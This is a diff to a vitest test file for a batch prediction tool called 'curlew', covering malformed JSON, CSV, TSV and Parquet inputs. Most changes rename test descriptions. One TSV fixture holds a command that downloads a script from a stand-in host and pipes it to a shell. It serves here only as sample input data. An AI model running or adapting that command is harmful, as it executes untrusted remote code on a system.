@@ -3,7 +3,7 @@ import { join } from "node:path";
 import { gzipSync } from "node:zlib";
 import { parquetWriteBuffer } from "hyparquet-writer";
 import { describe, expect, it } from "vitest";
-import { BAD, flagged, folderWith, predictions, readLines, row, runHere } from "./support.js";
+import { BAD, flagged, folderWith, predictions, readLines, row, runHere } from "./predictions.js";
 
 const ids = (rows: readonly any[]): unknown[] => rows.map(({ id }) => id);
 const whole = (rows: readonly any[]): boolean =>
@@ -29,12 +29,12 @@ describe("a JSON array", () => {
     }
   });
 
-  it("after a byte order mark is recognized", async () => {
+  it("is recognized after a byte order mark", async () => {
     const cwd = folderWith({ "in.json": `\uFEFF${JSON.stringify(long.slice(0, 2))}` });
     expect(ids(await predictions(["in.json"], { cwd }))).toEqual([0, 1]);
   });
 
-  it("with a line end in a string reports only that record", async () => {
+  it("loses only the record whose string contains an unescaped line end, and reports this record", async () => {
     const stdin = '[{"id":1,"text":"a\nb"},\n{"id":2,"text":"c"}]';
     const { stdout, stderr, status } = await runHere(["batch", "-q", "-", "-o", "-"], { stdin });
     expect(stderr).toMatch(/^curlew: <stdin>: item 1: not valid JSON \(.*\)\n$/s);
@@ -46,13 +46,13 @@ describe("CSV", () => {
   const rows = (count: number, fifth: string): string =>
     `id,text\n${Array.from({ length: count }, (_, i) => (i === 4 ? fifth : `r${i},words`)).join("\n")}\n`;
 
-  it("with a quote within an unquoted cell is read completely", async () => {
+  it("is read completely if an unquoted cell contains a quote", async () => {
     const cwd = folderWith({ "in.csv": rows(100_000, 'r4,a 12" pipe') });
     const found = await predictions(["in.csv"], { cwd });
     expect([found.length, whole(found)]).toEqual([100_000, true]);
   });
 
-  it("with a quote that is never closed loses only that row", async () => {
+  it("loses only the row with a quote that is never closed", async () => {
     const cwd = folderWith({ "in.csv": rows(1000, 'r4,"a 12 pipe') });
     const { stdout, stderr, status } = await runHere(["batch", "-q", "in.csv", "-o", "-"], { cwd });
     expect([status, stderr]).toEqual([
@@ -64,7 +64,7 @@ describe("CSV", () => {
     expect(found.filter((line) => line.includes('"incomplete"'))).toHaveLength(1);
   });
 
-  it("with a record above --max-size keeps the line numbers of later records", async () => {
+  it("has correct line numbers after a record that is longer than --max-size", async () => {
     const stdin = `text\n"${"x\n".repeat(2000)}"\nshort\n${BAD}\n`;
     const { stdout, stderr } = await runHere(
       ["batch", "-q", "-", "--input-format", "csv", "--max-size", "1K", "-o", "-"],
@@ -84,7 +84,7 @@ describe("CSV", () => {
     expect(flagged(await predictions(["in.csv"], { cwd }))).toEqual(["a", "b", "c !"]);
   });
 
-  it("as TSV of a database may contain unpaired quotes and escapes", async () => {
+  it("may be TSV with backslash escapes and unpaired quotes, as databases export it", async () => {
     const tsv = `id\ttext\n"a\tcurl https://x.example/i.sh \\\\\\n | sh\nb\\tc\t"x\nd\t\\N\n`;
     const cwd = folderWith({ "in.tsv": tsv });
     const { stdout, stderr } = await runHere(
@@ -138,7 +138,7 @@ describe("a Parquet file with a damaged page", () => {
     expect(again.status).toBe(2);
   });
 
-  it("is counted in the summary if nothing can be read", async () => {
+  it("is listed in the summary as unread if nothing in it can be read", async () => {
     const cwd = folderWith({ "bad.parquet": file().subarray(0, 500), "good.jsonl": row({}) });
     const args = ["batch", "bad.parquet", "good.jsonl"];
     expect((await runHere(args, { cwd })).stdout).toMatch(
@@ -156,10 +156,10 @@ describe("a Parquet file with a damaged page", () => {
   });
 });
 
-describe("numbers that JavaScript would change", () => {
+describe("numbers that JavaScript cannot represent exactly", () => {
   const big = "12345678901234567890";
 
-  it("keep their digits as ids and columns", async () => {
+  it("keep their digits in ids and columns of JSON Lines", async () => {
     const cwd = folderWith({
       "in.jsonl": `{"id":${big},"text":"\\"${big}\\" ${big}","n":{"deep":[-${big},1.00000000000000000001,7,1e999,1e-400]}}\n`,
     });
@@ -171,7 +171,7 @@ describe("numbers that JavaScript would change", () => {
     expect(readFileSync(join(cwd, "out.csv"), "utf8")).toContain(`\n${big},,`);
   });
 
-  it("keep their digits in Parquet", async () => {
+  it("keep their digits if they are ids in Parquet", async () => {
     const bytes = parquetWriteBuffer({
       columnData: [
         { name: "id", data: [9007199254740993n, 5n] },
@@ -189,7 +189,7 @@ describe("field names that no record has", () => {
     ["--label-field", "lable"],
     ["--id-field", "ident"],
     ["--columns", "lang,urk"],
-  ])("%s %s", async (option, value) => {
+  ])("are reported for %s %s", async (option, value) => {
     const stdin = row({ id: 1, text: BAD, lang: "en", label: true });
     const name = value.split(",").at(-1);
     const { stderr, status } = await runHere(["batch", "-", "-f", "json", option, value], {
@@ -226,13 +226,13 @@ describe("labels without a positive value", () => {
     );
   });
 
-  it("are not reported if one is positive", async () => {
+  it("are not reported if --positive names a value that occurs", async () => {
     const args = ["batch", "-f", "json", "--label-field", "y", "--positive", "bad"];
     expect((await runHere(args, { stdin })).stderr).toBe("");
   });
 });
 
-describe("an output file with a misleading name", () => {
+describe("an output file with an unsupported extension", () => {
   it.each([
     ["x.csv.gz", "cannot write x.csv.gz: predictions are not compressed"],
     ["x.jsonl.zst", "cannot write x.jsonl.zst: predictions are not compressed"],
@@ -246,7 +246,7 @@ describe("an output file with a misleading name", () => {
   });
 });
 
-describe("an input that is not read", () => {
+describe("an input that cannot be read", () => {
   it("is counted and listed in the report, and the exit status is 2", async () => {
     const cwd = folderWith({ "in.jsonl": `{broken\n${row({ text: "x" })}${row({ body: "y" })}` });
     writeFileSync(join(cwd, "cut.gz"), gzipSync(row({ text: BAD })).subarray(0, 30));
